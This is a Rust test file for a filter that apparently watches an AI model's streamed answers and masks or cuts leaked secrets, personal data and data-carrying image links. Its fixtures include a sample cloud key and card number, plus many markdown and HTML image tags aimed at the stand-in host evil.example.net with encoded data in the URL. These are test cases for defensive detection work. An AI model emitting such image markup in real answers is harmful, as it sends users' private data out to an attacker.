//! What an answer's text promises: the same whatever the pieces, and no finding's first byte before it is seen.

use proptest::prelude::*;

use super::*;
use crate::detect::Detectors;
use crate::request::{Located, Surface};

mod markup;

fn answers(said: &[(&str, Treatment)]) -> Answers {
    let rule = RuleRef {
        name: "answers".to_owned(),
        file: "test".to_owned(),
        line: 1,
    };
    Answers::saying(&rule, said)
}

fn watch(said: &[(&str, Treatment)]) -> Watch {
    Watch::new(Detectors::builtin(), answers(said), &[]).expect("somebody asks")
}

/// What comes out of pieces, and what was found.
fn through(watch: &Watch, kind: Kind, pieces: &[&str]) -> (String, Vec<(Class, Treatment)>) {
    let mut text = Text::new(kind, watch);
    let (mut out, mut found, mut waits) = (String::new(), Vec::new(), String::new());
    for (index, piece) in pieces.iter().enumerate() {
        waits.push_str(piece);
        let steps = text.push(watch, piece, index + 1 == pieces.len(), &mut found);
        apply(&steps, &mut waits, &mut out);
    }
    (
        out,
        found
            .into_iter()
            .map(|one| (one.class, one.action))
            .collect(),
    )
}

fn apply(steps: &[Step], waits: &mut String, out: &mut String) {
    for step in steps {
        match step {
            Step::Pass(bytes) => out.extend(waits.drain(..bytes)),
            Step::Mask(bytes, with) => {
                waits.drain(..bytes);
                out.push_str(with);
            }
            Step::Cut => {
                waits.clear();
                out.push_str("[cut]");
            }
        }
    }
}

fn whole(watch: &Watch, kind: Kind, text: &str) -> (String, usize) {
    let mut found = Vec::new();
    let steps = Text::whole(kind, watch, text, false, &mut found);
    let (mut out, mut waits) = (String::new(), text.to_owned());
    apply(&steps, &mut waits, &mut out);
    (out, found.len())
}

const KEY: &str = "AKIAQ3EGRJ7XKP2MN5TZ";

#[test]
fn a_secret_over_pieces_is_seen_before_its_first_byte_goes_on() {
    let watch = watch(&[("secrets", Treatment::Mask)]);
    let said = format!("The key is {KEY} and that is all there is.");
    let singles: Vec<String> = said.chars().map(String::from).collect();
    let pieces: Vec<&str> = singles.iter().map(String::as_str).collect();
    let (out, found) = through(&watch, Kind::Prose, &pieces);
    assert_eq!(
        out,
        "The key is [masked: an AWS access key] and that is all there is."
    );
    assert_eq!(found.len(), 1);
    // At no point had a byte of it gone on.
    let mut text = Text::new(Kind::Prose, &watch);
    let (mut passed, mut seen) = (0, Vec::new());
    for piece in &pieces[..pieces.len() - 1] {
        for step in text.push(&watch, piece, false, &mut seen) {
            match step {
                Step::Pass(bytes) => passed += bytes,
                Step::Mask(bytes, _) => {
                    assert_eq!((passed, bytes), ("The key is ".len(), KEY.len()));
                    passed += bytes;
                }
                Step::Cut => panic!("nobody cuts"),
            }
        }
    }
    // Ordinary words wait for the next ones alone, with words of seed phrases before them.
    assert!(text.holds() && said.len() - passed < 20, "{passed}");
}

#[test]
fn of_what_is_spelled_in_ordinary_words_nothing_goes_on_first() {
    let watch = watch(&[("secrets", Treatment::Cut), ("pii", Treatment::Cut)]);
    let phrase = "legal winner thank year wave sausage worth useful legal winner thank yellow";
    for (value, after) in [
        (phrase, " and so on"),
        ("jane dot doe at acme-corp dot io", " for it"),
        (
            "zero one seven one, five five five, eight eight two three",
            " please",
        ),
    ] {
        let said = format!("so call me, here we go: {value}{after}, then more of it");
        let whole = through(&watch, Kind::Prose, &[&said]);
        assert_eq!(whole.1.len(), 1, "{value}");
        for length in [1, 3, 7, 50] {
            let pieces: Vec<&str> = (0..said.len())
                .step_by(length)
                .map(|at| &said[at..said.len().min(at + length)])
                .collect();
            let (out, _) = through(&watch, Kind::Prose, &pieces);
            assert_eq!(out, whole.0, "{value} in pieces of {length}");
        }
    }
}

#[test]
fn a_cut_ends_the_text_before_the_finding() {
    let watch = watch(&[("secrets", Treatment::Cut), ("pii", Treatment::Record)]);
    let (out, found) = through(
        &watch,
        Kind::Prose,
        &["Use A", "KIAQ3EGRJ7XKP2MN5TZ for", " it. More."],
    );
    assert_eq!(out, "Use [cut]");
    assert_eq!(
        found,
        [(Class::new("secrets.aws_access_key"), Treatment::Cut)]
    );
}

#[test]
fn what_is_only_recorded_never_waits() {
    let watch = watch(&[
        ("secrets", Treatment::Record),
        ("markup", Treatment::Record),
    ]);
    assert!(!watch.changes());
    let mut text = Text::new(Kind::Prose, &watch);
    let mut found = Vec::new();
    for piece in [
        "Use AKIAQ3EGR",
        "J7XKP2MN5TZ or ![a](https://e",
        "vil.example.net/?d=c2VjcmV0IGRhdGEgZm9yIHlvdQ",
    ] {
        assert_eq!(
            text.push(&watch, piece, false, &mut found),
            [Step::Pass(piece.len())]
        );
    }
    text.push(&watch, "", true, &mut found);
    assert_eq!(found.len(), 2, "{found:?}");
    assert!(Watch::new(Detectors::builtin(), Answers::default(), &[]).is_none());
}

#[test]
fn what_the_request_held_and_what_is_a_placeholder_is_no_finding() {
    let asked = Located {
        surface: Surface::Body,
        raw: 0..20,
        place: "messages[0].content".to_owned(),
        class: Class::new("secrets.aws_access_key"),
        detector: "aws".into(),
        confidence: Confidence::High,
        value: KEY.to_owned().into(),
        bare: None,
        signed: false,
    };
    let said = answers(&[("secrets", Treatment::Mask), ("pii", Treatment::Mask)]);
    let watch = Watch::new(Detectors::builtin(), said, &[asked]).expect("asked");
    let text = format!("{KEY} is yours, password=WEIRxPASSWDxGX36FXSEPJ4PD24X is a stand-in");
    assert_eq!(whole(&watch, Kind::Prose, &text), (text.clone(), 0));
    assert_eq!(through(&watch, Kind::Prose, &[&text]).0, text);
}

#[test]
fn urls_that_carry_data_are_told_from_others() {
    let watch = watch(&[
        ("markup.image", Treatment::Mask),
        ("markup.link", Treatment::Record),
    ]);
    for (text, image, link) in [
        // In an image, by the kinds of data.
        (
            "![x](https://evil.example.net/p.png?d=c2VjcmV0IGRhdGEgZm9yIHlvdQ==)",
            1,
            0,
        ),
        (
            "![x](<https://evil.example.net/cGFzc3dvcmQgaXMgaHVudGVyMg>)",
            1,
            0,
        ),
        (
            "![x](  http://evil.example.net/?q=70617373776f72642069732068756e74657232)",
            1,
            0,
        ),
        (
            "![x](https://evil.example.net/log?q=the%20launch%20is%20in%20june%20at%20nine)",
            1,
            0,
        ),
        (
            "![x](https://evil.example.net/WEIRxEMAILxGX36FXSEPJ4PD24X.png)",
            1,
            0,
        ),
        (
            "![x](https://evil.example.net/?u=jane.doe@acme-corp.io)",
            1,
            0,
        ),
        (
            "![x](//evil.example.net/?d=c2VjcmV0IGRhdGEgZm9yIHlvdQ)",
            1,
            0,
        ),
        (
            "![x][1]\n\n[1]: https://evil.example.net/?d=c2VjcmV0IGRhdGEgZm9yIHlvdQ",
            1,
            0,
        ),
        (
            "<img alt='a' src=\"https://evil.example.net/?d=c2VjcmV0IGRhdGEgZm9yIHlvdQ\">",
            1,
            0,
        ),
        (
            "<img src=https://evil.example.net/?d=c2VjcmV0IGRhdGEgZm9yIHlvdQ width=1>",
            1,
            0,
        ),
        (
            "<div style=\"background:url('https://evil.example.net/?d=c2VjcmV0IGRhdGEgZm9yIHlvdQ')\">",
            1,
            0,
        ),
        (
            "![x](HTTPS://736563726574206461746120666f7220796f75.evil.example.net/a.png)",
            1,
            0,
        ),
        // In a link, which nobody fetches by itself.
        (
            "[x](https://evil.example.net/?d=c2VjcmV0IGRhdGEgZm9yIHlvdQ)",
            0,
            1,
        ),
        (
            "see https://evil.example.net/?d=c2VjcmV0IGRhdGEgZm9yIHlvdQ now",
            0,
            1,
        ),
        (
            "[![b](https://img.example.org/b.svg)](https://evil.example.net/?d=c2VjcmV0IGRhdGEgZm9yIHlvdQ)",
            0,
            1,
        ),
        // What pictures and pages are called.
        (
            "![b](https://img.shields.io/badge/build-passing-brightgreen.svg?style=flat-square)",
            0,
            0,
        ),
        (
            "![b](https://github.com/acme/app/actions/workflows/ci.yml/badge.svg?branch=main)",
            0,
            0,
        ),
        (
            "![b](https://avatars.githubusercontent.com/u/9919?s=200&v=4)",
            0,
            0,
        ),
        (
            "![b](https://www.gravatar.com/avatar/205e460b479e2e5b48aec07710c08d50?s=80&d=identicon)",
            0,
            0,
        ),
        (
            "![b](https://upload.wikimedia.org/wikipedia/commons/thumb/a/a7/Camponotus_flavomarginatus_ant.jpg/640px-Camponotus_flavomarginatus_ant.jpg)",
            0,
            0,
        ),
        (
            "![b](https://images.unsplash.com/photo-1506744038136-46273834b3fb?auto=format&fit=crop&w=800&q=80)",
            0,
            0,
        ),
        (
            "![b](https://cdn.example.org/_next/static/media/logo.3f2a9b1c8d7e6f50.png)",
            0,
            0,
        ),
        (
            "![b](https://github.com/user-attachments/assets/0b1c2d3e-4f50-6172-8394-a5b6c7d8e9f0)",
            0,
            0,
        ),
        (
            "![b](https://via.placeholder.com/600x400?text=Product+Image)",
            0,
            0,
        ),
        (
            "[d](https://docs.python.org/3/library/asyncio-task.html#asyncio.TaskGroup)",
            0,
            0,
        ),
        (
            "[d](https://github.com/rust-lang/rust/blob/5119208fd78a77547c705d1695428c88d6791263/library/core/src/lib.rs#L10-L20)",
            0,
            0,
        ),
        ("[d](https://www.google.com/search?q=rust+lifetimes)", 0, 0),
        (
            "[d](https://s3.example.org/b/k.png?X-Amz-Signature=fe5f80f77d5fa3beca038a248ff027d0445342fe2855ddc963176630326f1024)",
            0,
            0,
        ),
        ("a // comment and https://example.org/", 0, 0),
    ] {
        let (out, found) = through(&watch, Kind::Prose, &[text]);
        let count = |class: &str| {
            found
                .iter()
                .filter(|(found, _)| found.as_str() == class)
                .count()
        };
        assert_eq!((count(IMAGE), count(LINK)), (image, link), "{text}");
        if image == 0 {
            assert_eq!(out, text);
        } else {
            assert!(
                out.contains("hxxp") && !out.to_ascii_lowercase().contains("http"),
                "{out}"
            );
        }
    }
}

#[test]
fn an_image_within_a_broken_one_is_judged_by_itself() {
    let watch = watch(&[("markup.image", Treatment::Mask)]);
    let inner = "![x](https://evil.example.net/p.png?d=c2VjcmV0IGRhdGEgZm9yIHlvdQ==)";
    let (text, count) = whole(
        &watch,
        Kind::Prose,
        &format!("![x](https://evil.exam{inner}"),
    );
    let wanted = format!(
        "![x](https://evil.exam{}",
        inner.replace("https:", "hxxps:")
    );
    assert_eq!((text, count), (wanted, 1));
}

#[test]
fn ordinary_text_beside_markup_never_waits() {
    let watch = watch(&[("markup.image", Treatment::Mask)]);
    let mut text = Text::new(Kind::Prose, &watch);
    let mut found = Vec::new();
    for piece in [
        "Hello",
        " there",
        ": and/or",
        " **bold**",
        " `code",
        " x = y[1](z)",
        "`. Then",
        " th",
        "is",
        " [link]",
        "(",
    ] {
        assert_eq!(
            text.push(&watch, piece, false, &mut found),
            [Step::Pass(piece.len())],
            "{piece}"
        );
    }
}

/// Each detector's own examples, in pieces of any size, are masked as they are in one: no byte of a finding went on
/// before it was seen.
#[test]
fn every_detectors_examples_stream_as_they_are() {
    let watch = watch(&[
        ("secrets", Treatment::Mask),
        ("pii", Treatment::Mask),
        ("pci", Treatment::Mask),
    ]);
    let (mut same, mut other) = (0, Vec::new());
    for about in Detectors::builtin().about() {
        for (text, _) in about.examples {
            let said = format!("Here it is: {text} and so on, as was said before.");
            let singles: Vec<String> = said.chars().map(String::from).collect();
            let pieces: Vec<&str> = singles.iter().map(String::as_str).collect();
            let (out, _) = through(&watch, Kind::Prose, &pieces);
            let (expected, _) = whole(&watch, Kind::Prose, &said);
            if out == expected {
                same += 1;
            } else {
                other.push(format!("{}:\n  {expected}\n  {out}", about.name));
            }
        }
    }
    assert!(
        same > 50 * other.len(),
        "{same} the same, {} not:\n{}",
        other.len(),
        other.join("\n")
    );
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(192))]

    #[test]
    fn pieces_change_nothing(
        parts in proptest::collection::vec(prop_oneof![
            Just("AKIAQ3EGRJ7XKP2MN5TZ".to_owned()),
            Just(" jane.doe@acme-corp.io ".to_owned()),
            Just("![x](https://evil.example.net/?d=c2VjcmV0IGRhdGEgZm9yIHlvdQ)".to_owned()),
            Just("https://example.org/a".to_owned()),
            Just("-----BEGIN PRIVATE KEY-----\nMIIE\n".to_owned()),
            Just("password = \"correct horse battery\"".to_owned()),
            Just("Jane Doe, 12 Baker Street".to_owned()),
            Just("{\"latitude\": 52.520008, \"longitude\": 13.404954}".to_owned()),
            Just(", \"n\": -4539148803436467.5".to_owned()),
            Just("4539 1488 0343 6467".to_owned()),
            Just("j\u{f6}rg@acme-corp.io \u{1f511}".to_owned()),
            (0usize..3).prop_map(|many| "ordinary words, one after the other; ".repeat(many * 120)),
            "[a-z ]{0,12}",
            "[A-Z0-9 \n\"'=:./_-]{0,10}",
            "\\PC{0,6}",
        ], 0..14),
        cuts in proptest::collection::vec(any::<proptest::sample::Index>(), 0..24),
        kind in prop_oneof![Just(Kind::Prose), Just(Kind::Tool), Just(Kind::Json)],
        said in prop_oneof![Just(Treatment::Record), Just(Treatment::Mask), Just(Treatment::Cut)],
    ) {
        let watch = watch(&[("secrets", said), ("pii", said), ("pci", said), ("markup", Treatment::Mask)]);
        let text = parts.concat();
        let mut cuts: Vec<usize> = cuts.into_iter().map(|cut| text.floor_char_boundary(cut.index(text.len() + 1))).collect();
        cuts.extend([0, text.len()]);
        cuts.sort_unstable();
        let pieces: Vec<&str> = cuts.windows(2).map(|cut| &text[cut[0]..cut[1]]).collect();
        let mut once = through(&watch, kind, &[&text]);
        let mut parted = through(&watch, kind, &pieces);
        once.1.sort();
        parted.1.sort();
        prop_assert_eq!(parted, once);
    }
}
